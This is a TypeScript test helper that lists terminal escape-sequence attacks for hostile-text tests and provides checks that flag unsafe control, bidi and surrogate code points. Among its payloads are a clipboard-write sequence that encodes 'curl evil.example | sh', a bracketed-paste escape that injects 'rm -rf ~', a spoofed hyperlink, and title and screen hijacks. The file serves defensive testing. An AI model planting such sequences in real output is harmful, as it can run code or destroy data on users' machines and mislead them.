/**
 * The attack library of the hostile-text suites (tests/hostile/escapes*.test.ts): real
 * terminal attacks to plant in every field comb draws, and what counts as unsafe on a
 * terminal: any C0 control (a line may keep none; multi-line text only `\n`), DEL, any C1
 * code point, a bidi control (embeddings and overrides U+202A-U+202E, isolates
 * U+2066-U+2069, and the marks U+200E, U+200F, U+061C) and a lone surrogate.
 *
 * Not a test file: the vitest include takes only `*.test.ts` and `*.test.tsx` names.
 */
import {expect} from 'vitest';

/** One attack: a name for the test title and the text planted in a field. */
export interface Attack {
	readonly name: string;
	readonly text: string;
}

/** The code points `from` to `to`, both included, as one string. */
export const range = (from: number, to: number): string =>
	String.fromCodePoint(...Array.from({length: to - from + 1}, (_, index) => from + index));

/** The attacks, each a real sequence or class of code points a terminal would act on. */
export const attacks: readonly Attack[] = [
	{name: 'screen clear CSI 2J', text: 'x\u001B[2Jy'},
	{name: 'full reset ESC c (RIS)', text: 'x\u001Bcy'},
	{name: 'window title OSC 0, BEL-terminated', text: '\u001B]0;pwned title\u0007'},
	{name: 'window title OSC 2, ST-terminated', text: '\u001B]2;pwned title\u001B\\'},
	{name: 'clipboard write OSC 52', text: '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'},
	{name: 'hyperlink OSC 8', text: '\u001B]8;;https://evil.example/\u001B\\innocent link\u001B]8;;\u001B\\'},
	{name: 'cursor home CSI H and position CSI 10;10H', text: 'a\u001B[Hb\u001B[10;10Hc'},
	{name: 'cursor up CSI 5A and down CSI 3B', text: 'a\u001B[5Ab\u001B[3Bc'},
	{name: 'bracketed paste end CSI 201~', text: '\u001B[201~rm -rf ~\r\u001B[200~'},
	{name: 'DECRQSS request (DCS $q)', text: '\u001BP$q"p\u001B\\'},
	{name: 'APC string', text: '\u001B_application program command\u001B\\'},
	{name: 'PM and SOS strings', text: '\u001B^privacy message\u001B\\ \u001BXstart of string\u001B\\'},
	{name: '8-bit CSI U+009B', text: '\u009B2J\u009B31m'},
	{name: '8-bit OSC U+009D with 8-bit ST', text: '\u009D0;pwned\u009C'},
	{name: '8-bit DCS U+0090', text: '\u0090$q"p\u009C'},
	{name: 'BEL', text: 'ding\u0007dong\u0007'},
	{name: 'backspace overwrite', text: 'good\b\b\b\bevil'},
	{name: 'carriage-return overwrite', text: 'fake\rreal'},
	{name: 'DEL', text: 'x\u007Fy'},
	{name: 'NUL', text: 'a\u0000b'},
	{name: 'every C0 control', text: `<${range(0x00, 0x1f)}>`},
	{name: 'every C1 control', text: `<${range(0x80, 0x9f)}>`},
	{name: 'bidi embeddings and overrides U+202A-U+202E', text: 'abc\u202Adef\u202Bghi\u202Cjkl\u202Dmno\u202Epqr'},
	{name: 'bidi isolates U+2066-U+2069', text: 'abc\u2066def\u2067ghi\u2068jkl\u2069mno'},
	{name: 'bidi marks U+200E, U+200F, U+061C', text: 'a\u200Eb\u200Fc\u061Cd'},
	{name: 'lone surrogates', text: 'a\uD800b\uDFFFc\uDC00'},
	{name: 'everything at once', text: `\u001B[2J\u001Bc\u001B]0;t\u0007\u009B2J\u202E\u2066\rover\b\u007F\u0000\uD800`},
];

/** Lines a value becomes when planted in a one-line field (title, author). */
export function oneLine(text: string): string {
	return text.replaceAll('\n', '');
}

/** One unsafe code point. */
export const unsafeCodePoint =
	/[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]|[\uD800-\uDFFF]/u;
const unsafeCodePoints = new RegExp(unsafeCodePoint.source, 'gu');

/** The unsafe code points of `text` (`\n` allowed when `isMultiLine`), named, for readable failures. */
export function unsafeIn(text: string, isMultiLine = false): string[] {
	const found: string[] = [];
	for (const match of text.matchAll(unsafeCodePoints)) {
		if (isMultiLine && match[0] === '\n') {
			continue;
		}
		found.push(`U+${match[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} at ${match.index}`);
	}
	return found;
}

/** Fails the running test, naming where and what, when `text` holds an unsafe code point. */
export function expectSafe(text: string, where: string, isMultiLine = false): void {
	const found = unsafeIn(text, isMultiLine);
	if (found.length > 0) {
		expect.fail(
			`${where}: unsafe ${found.slice(0, 5).join(', ')}${found.length > 5 ? ` (+${found.length - 5})` : ''} in ${JSON.stringify(text.slice(0, 300))}`,
		);
	}
}
